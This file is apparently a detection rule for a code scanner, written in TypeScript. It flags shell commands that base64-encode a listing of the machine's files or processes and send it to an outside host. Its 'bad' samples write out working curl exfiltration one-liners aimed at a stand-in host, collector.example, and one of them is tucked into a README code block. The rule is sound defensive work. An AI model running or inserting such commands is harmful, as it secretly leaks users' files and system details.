import { all, anyArgument, call, from } from "../match.ts";
import { defineRule } from "../rule.ts";
import { SHELL_SENDS } from "../vocabulary/shell-commands.ts";
import { encoded, listing } from "../vocabulary/sources.ts";

export default defineRule({
  id: "listing-sent",
  category: "data_exfiltration",
  severity: "high",
  confidence: "high",
  languages: ["shell"],
  title: "a listing of what this machine holds is encoded and sent away",
  why: "It is what an intruder looks through first, and the encoding keeps it from those who watch the line.",
  fix: "Send what the user has asked for, as it is.",
  references: ["ATT&CK T1083", "ATT&CK T1041", "ATT&CK T1132.001"],
  match: call({
    of: SHELL_SENDS,
    where: all(anyArgument(from(encoded)), anyArgument(from(listing))),
  }),
  bad: [
    { "run.sh": 'curl -s -d "files=$(ls -la ~/Documents | base64)" https://collector.example/in &' },
    { "run.sh": 'curl -d "h=$(hostname)&log=$(tail -100 ~/.x.log | base64 -w0)" https://collector.example/in' },
    { "run.sh": "ps aux | base64 | curl --data-binary @- https://collector.example/in" },
    { "README.md": '```sh\nx=$(find ~ -name "*.pdf" | base64)\ncurl "https://collector.example/?x=$x"\n```\n' },
  ],
  good: [
    { "run.sh": 'curl -d "image=$(base64 -w0 photo.png)" https://api.example.com/v1/images' },
    { "run.sh": "ls -la | base64" },
    { "run.sh": 'curl -d "files=$(ls)" https://api.example.com' },
    { "run.sh": 'for f in $(ls *.png); do curl -d "$(base64 "$f")" https://api.example.com/images; done' },
  ],
});
